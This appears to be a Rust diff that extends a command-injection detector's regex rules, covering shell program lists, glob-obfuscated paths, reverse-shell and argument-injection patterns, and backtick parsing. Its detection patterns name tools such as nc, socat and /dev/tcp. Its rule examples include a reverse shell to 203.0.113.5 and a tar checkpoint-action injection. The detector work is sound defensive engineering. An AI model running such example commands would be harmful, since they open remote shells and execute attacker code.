@@ -14,9 +14,11 @@ use crate::engine::compile;
 /// Programs whose names no sentence holds.
 const STRONG: &str = r"(?:wget|ncat|netcat|n[ck]|bash|zsh|dash|ksh|csh|sh|whoami|uname|nslookup|chmod|chown|printenv|ifconfig|ipconfig|netstat|powershell(?:\.exe)?|pwsh|cmd\.exe|certutil|bitsadmin|rundll32|regsvr32|mshta|wmic|systeminfo|tasklist|busybox|socat|mkfifo|nohup|tftp|tcpdump|base64|xxd|crontab|useradd|rm|rmdir|ls|chroot|insmod|iptables|systemctl)";
 /// Programs people talk about: they count with an argument that has the marks of one.
-const KNOWN: &str = r"(?:curl|dig|nmap|telnet|ssh|scp|ftp|rsync|traceroute|kubectl|docker|sudo|cp|mv|ps|pwd|lsof|openssl|awk|sed|gcc|expr|pip3?|npm|npx|gcloud|aws|apt-get|yum|apk)";
+const KNOWN: &str = r"(?:curl|dig|nmap|telnet|ssh|scp|ftp|rsync|traceroute|kubectl|docker|sudo|cp|mv|ps|pwd|lsof|openssl|getent|journalctl|dmesg|lsblk|hexdump|hostnamectl|nsenter|awk|sed|gcc|expr|pip3?|npm|npx|gcloud|aws|apt-get|yum|apk)";
 /// Programs that are words, too.
 const ANY: &str = r"(?:cat|tac|nl|head|tail|more|less|echo|printf|env|id|w|who|host|ping|ping6|sleep|kill|find|grep|touch|tee|xargs|type|dir|net|del|copy|set|export|source|exec|eval|reboot|shutdown|halt|init|date|sort|uniq|rev|od|strings|tar|zip|unzip|gzip|dd|mail|sendmail|ln|mkdir|hostname|timeout|time|test|cut|diff|split|fold|make|last|groups|df|du|mount|umount|route|arp|history|alias|command|read|nice|watch|at|jobs|fg|bg|wall|write|passwd|apt|cmd|python[23]?(?:\.\d+)?|perl|ruby|php|node|lua|which)";
+/// Those of them that begin no line of a text.
+const LINE: &str = r"(?:cat|tac|head|tail|echo|printf|env|ping6?|sleep|kill|find|grep|touch|tee|xargs|exec|eval|reboot|shutdown|tar|unzip|dd|mkdir|python[23]?(?:\.\d+)?|perl|ruby|php|node|mount|umount|passwd)";
 /// What stands behind a command and not behind a verb: a path, a flag, a variable, an address, a redirection.
 const ARGUMENT: &str = r"(?:[\s+]+(?:[\x22']?(?:/|~/|\.{1,2}/|\./|\$|-{1,2}[a-z0-9?]|%\w+%|[a-z]:\\|https?:|\*|\d{1,3}(?:\.\d{1,3}){3}\b|>|<)|[\w-]+\.(?:php|sh|py|txt|conf|log|env|js|json|ya?ml|exe|ini|[a-z]{2,3}/)|\S+\s*(?:\|\s*(?:(?:ba|z|da)?sh|nc|python|perl|php|base64|curl|tee|xargs|sudo)\b|>\s*[\w/.$]))|\s*[<>]\s*[/\w&(.$]|\$\{?IFS|\s*`|\{)";
 
@@ -68,10 +70,12 @@ pub(super) static RULES: &[Rule] = &[
         patterns: &[
             certain(&["$ifs", "${ifs", "$@", "() {", "(){", "() \t{"], r"\$\{?IFS\b|\w\$@\w+\s+[/-]|\(\)\s*\{\s*[:_\w]*\s*;?\s*\}\s*;"),
             likely(&["?/", "*/", "/?", "/*", "???", "/bin/", "/etc/", "/usr/"], r"(?:^|[\s;|&`(=])/(?:[a-z]*[?\[][a-z?*\]\[]*/[a-z?*\]\[]*[?*\[]|\?{2,}/|[a-z]{1,4}[?*]?/[a-z?]*\?[a-z?]*(?:\s|$)|[a-z]+/[a-z]*\?[a-z?]*(?:\s+[/-]|$))"),
-            likely(&["{", "${path", "${home", "${shell", "${#"], r"(?:^|[;|&`(\n])\s*\{\w+,[^}\s]+\}|\$\{(?:PATH|HOME|SHELL|PWD|OLDPWD):\d+:\d+\}"),
+            likely(&["{", "${path", "${home", "${shell", "${#"], r"(?:^|[;|&`(\n])\s*\{(?:\w+,[^}\s]+|,[^}\s]*\w[^}\s]*)\}(?:$|[\s;|&`)'\x22])|\$\{(?:PATH|HOME|SHELL|PWD|OLDPWD):\d+:\d+\}"),
             likely(&["$'\\"], r"\$'(?:[^']{0,40})\\(?:x[0-9a-f]{2}|[0-3]?[0-7]{2}|u[0-9a-f]{4})"),
             likely(&[";$", "; $", "|$", "| $", "&$", "& $"], r"(?:^|[;&|\s])[a-z_]\w*=[^;&|=]*[;&|].{0,200}[;&|]\s*\$\{?[a-z_]\w*\}?\s*(?:$|[\s;&|$`])"),
-            likely(&["%comspec%", "%programfiles", "%systemroot%", "%path:"], r"%(?:comspec|systemroot)%|%(?:programfiles|path|comspec):~\d"),
+            likely(&["%comspec%", "%systemroot%", ":~"], r"%(?:comspec|systemroot)%|%\w+:~-?\d+(?:,-?\d+)?%"),
+            // Letters of well-known names replaced by globs, in the middle of them.
+            likely(&["/e", "/?", "/*"], r"/(?:e[*?\[]|\?t|\*t|\[e)[^/\s]{0,8}/[^/\s]{0,6}(?:p[a*?]|[*?]a?s|ss|wd|sh)[^/\s]{0,8}(?:\s|$|['\x22;|&+])"),
         ],
     },
     Rule {
@@ -85,7 +89,7 @@ pub(super) static RULES: &[Rule] = &[
             example: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
         },
         patterns: &[
-            certain(&["/dev/tcp/", "/dev/udp/", "nc -e", "nc -c", "ncat ", "mkfifo /", "bash -i", "sh -i", "pty.spawn", "socat "], r"/dev/(?:tcp|udp)/[\w.$]+/|\bnc(?:at)?\s+(?:\S+\s+){0,6}-(?:e|c|[a-z]*e)\b\s*\S|\bmkfifo\s+/|\b(?:ba|z|k)?sh\s+-i\b\s*(?:[>&0-9|]|$)|pty\.spawn\s*\(|\bsocat\s+.{0,40}exec:"),
+            certain(&["/dev/tcp/", "/dev/udp/", "nc -", " -e ", " -c ", "ncat ", "mkfifo /", "bash -i", "sh -i", "pty.spawn", "socat "], r"/dev/(?:tcp|udp)/[\w.$]+/|\bnc(?:at)?\s+(?:\S+\s+){0,6}-(?:e|c|[a-z]*e)\b\s*\S|\bmkfifo\s+/|\b(?:ba|z|k)?sh\s+-i\b\s*(?:[>&0-9|]|$)|pty\.spawn\s*\(|\bsocat\s+.{0,40}exec:"),
             certain(&["| sh", "|sh", "| bash", "|bash", "| python", "|python", "| perl", "|perl", "| /bin", "|/bin", "| zsh", "| node", "|node", "| ruby", "|php", "| php", "|dash"], r"\b(?:curl|wget|fetch|base64|echo|printf|cat|xxd|openssl)\b[^|\n]{0,300}\|\s*(?:sudo\s+)?(?:/\w+(?:/\w+)*/)?(?:ba|z|k|da)?(?:sh|python[23]?|perl|ruby|php|node)\b").prose(),
             likely(&["rm -", "rm+-"], r"^\s*(?:sudo\s+)?rm[\s+]+-[rfv-][\w-]*[\s+]+(?:-[\w-]+[\s+]+)*(?:/|~|\*|\$|\.\s*(?:;|$))").prose(),
             likely(&["/bin/sh", "/bin/bash", "/bin/zsh", "/bin/dash", "/bin/nc", "/bin/cat", "/bin/ls", "/bin/id", "/bin/wget", "/bin/curl", "/bin/python", "/bin/perl", "/bin/busybox"], r"(?:^|[^\w#!/])(?:/usr)?(?:/local)?/bin/(?:(?:ba|z|da|k)?sh\b|(?:nc|cat|id|ls|wget|curl|python[23]?|perl|busybox)\b)(?:\s+-|\s*[;|&'\x22]|\s+/|\s*$|\$)|^/bin/(?:ba)?sh").prose(),
@@ -104,7 +108,7 @@ pub(super) static RULES: &[Rule] = &[
             example: "--checkpoint-action=exec=sh shell.sh",
         },
         patterns: &[
-            certain(&["--checkpoint-action", "proxycommand", "--use-compress-program", "--upload-pack", "--receive-pack", "-exec ", "--to-command", "--rsh=", "--post-file", "--open-files-in-pager", "--output-document", "--config-env", "--new-window-command", "permitlocalcommand", "--use-askpass", "--use-pager", "--ext-diff"], r"^\s*(?:-[\w-]*\s+)?(?:--checkpoint-action\s*=|-o\s*ProxyCommand|--use-compress-program[= ]|--(?:upload|receive)-pack[= ]|--to-command\s*=|--rsh\s*=|--post-file\s*=|--open-files-in-pager|--output-document\s*=\s*[/.]|--config-env|--use-askpass\s*=|-o\s*PermitLocalCommand)|\s-exec(?:dir)?\s+[\w/.]+\s.*(?:\\?;|\{\}|\+)|\s--checkpoint-action\s*=|\s--(?:upload|receive)-pack=|-oProxyCommand\s*="),
+            certain(&["--checkpoint-action", "proxycommand", "--use-compress-program", "--upload-pack", "--receive-pack", "-exec ", "--to-command", "--rsh=", "--post-file", "--open-files-in-pager", "--output-document", "--config-env", "--new-window-command", "permitlocalcommand", "--use-askpass", "--use-pager", "--ext-diff", "--gpu-launcher", "--renderer-cmd-prefix", "--utility-cmd-prefix"], r"^\s*(?:-[\w-]*\s+)?(?:--checkpoint-action\s*=|-o\s*ProxyCommand|--use-compress-program[= ]|--(?:upload|receive)-pack[= ]|--to-command\s*=|--rsh\s*=|--post-file\s*=|--open-files-in-pager|--output-document\s*=\s*[/.]|--config-env|--use-askpass\s*=|-o\s*PermitLocalCommand)|--(?:gpu-launcher|renderer-cmd-prefix|utility-cmd-prefix)\s*=|\s-exec(?:dir)?\s+[\w/.]+\s.*(?:\\?;|\{\}|\+)|\s--checkpoint-action\s*=|\s--(?:upload|receive)-pack=|-oProxyCommand\s*="),
             likely(&["--exec", "--eval", "-oG", "-iL", "--script", "-d @", "--data @", "-F file=@", "--config=", "--output=", "-o /", "-T /", "--init-command", "-dsafer", "--no-sandbox"], r"^\s*--(?:exec|eval|init-command)[= ]\S|^\s*(?:--script|--config)=\S*(?:https?:|/|\.\.)|^\s*--output=(?:/|\.\.)|^\s*-(?:oG|iL|o|T)\s*/\w+/|^\s*(?:-d|--data(?:-binary)?)\s+@/|-dNOSAFER"),
             likely(&["-rf ", "-fr ", "-x/", "-x /", "-oqueuedirectory"], r"^\s*-(?:rf|fr)\s+[/~*.]|(?:^|\s)-X\s?/(?:tmp|var|www|srv|home|opt)/|(?:^|\s)-OQueueDirectory="),
             hint(&["--"], r"^--[a-z][a-z-]+(?:=\S+)$"),
@@ -142,9 +146,9 @@ fn expressions() -> &'static Expressions {
             alone: compile(&format!(
                 r"(?:;|\|\|?|&&?)\s*{path}(?:id|env|ls|ps|pwd|whoami|uname|hostname|w|who|dir|set|ipconfig|ifconfig|netstat|reboot|shutdown|printenv|ver|systeminfo|sleep\s+\d+|ping\s+-[cn]\s*\d+\s+\S+|echo\s+\S+|nslookup\s+\S+|sleep\$\S+|ping\s+[\w.-]+\.[a-z]{{2,}}|cat\s+[\w-]+|del\s+\S+|net\s+(?:user|share|view|localgroup)\b[^;]*|kill\s+-?\d+.*|rm\s+\S+|touch\s+\S+)\s*(?:[;#&|'\x22\n]*\s*$|;|&&|\|\|)"
             )),
-            after_break: compile(&format!(r"[\r\n]\s*{path}(?:{STRONG}|{KNOWN}|{ANY})\b(?:{ARGUMENT})|[\r\n]\s*(?:id|whoami|uname -a|ls|env|ifconfig)\s*$")),
+            after_break: compile(&format!(r"[\r\n]\s*{path}(?:{STRONG}|{KNOWN}|{LINE})\b(?:{ARGUMENT})|[\r\n]\s*(?:id|whoami|uname -a|ls|env|ifconfig)\s*$")),
             substitution: compile(&format!(r"\$\(+\s*(?:{path}(?:{STRONG}|{KNOWN}|{ANY})\b[^)]{{0,300}}|/\w+/[\w/]+|<\s*[/\w.]|\(|\d+\s*[*+-]\s*\d+|printf\b)")),
-            inside: compile(&format!(r"^\s*{path}(?:{STRONG}|{KNOWN}|{ANY})\b")),
+            inside: compile(&format!(r"^\s*{path}(?:{STRONG}|{KNOWN}|{ANY})(?:$|[\s;|&<>$]|\W*$)")),
         }
     })
 }
@@ -226,6 +230,17 @@ fn backticks(subject: &Subject<'_>) -> Option<Hit> {
     let mut at = 0;
     // Pairs of backticks, left to right; a fence of three is markup.
     while let Some(start) = text.get(at..).and_then(|rest| rest.find('`')).map(|offset| at + offset) {
+        let run = bytes.iter().skip(start).take_while(|byte| **byte == b'`').count();
+        if run >= 2 {
+            // An empty pair, or a mark of several that ends where as many stand again.
+            let mark = "`".repeat(run.min(8));
+            at = text
+                .get(start + run..)
+                .and_then(|rest| rest.find(&mark))
+                .filter(|_| run >= 3)
+                .map_or(start + run, |offset| start + run + offset + mark.len());
+            continue;
+        }
         let Some(length) = text.get(start + 1..).and_then(|rest| rest.find('`')) else { break };
         let inside = text.get(start + 1..start + 1 + length).unwrap_or_default();
         at = start + length + 2;
@@ -233,9 +248,9 @@ fn backticks(subject: &Subject<'_>) -> Option<Hit> {
             continue;
         }
         let attached = start > 0
-            && bytes
-                .get(start - 1)
-                .is_some_and(|byte| !byte.is_ascii_whitespace() && !matches!(byte, b'(' | b'*' | b'"' | b'|' | b'\''));
+            && bytes.get(start - 1).is_some_and(|byte| {
+                !byte.is_ascii_whitespace() && !matches!(byte, b'(' | b'[' | b'_' | b'*' | b'"' | b'|' | b'\'')
+            });
         let whole = start == 0 && at >= text.len();
         let suspicious = SUSPICIOUS
             .get_or_init(|| compile(r"/etc/|\$\{?IFS|\|\s*(?:ba)?sh|\b(?:nc|ncat|nslookup|whoami|wget|curl)\s+\S*[./]|/dev/tcp|/proc/|\bsleep\s+\d|>\s*/"))
